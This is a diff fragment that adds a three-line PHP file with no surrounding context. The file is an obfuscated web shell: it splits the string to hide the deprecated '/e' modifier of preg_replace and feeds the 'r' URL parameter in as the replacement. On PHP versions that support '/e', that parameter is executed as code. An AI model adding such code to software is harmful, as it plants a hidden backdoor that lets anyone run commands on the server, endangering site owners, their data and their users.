@@ -1,0 +1,3 @@
+<?php
+$p = '/x/' . 'e';
+echo preg_replace($p, $_GET['r'], 'x');
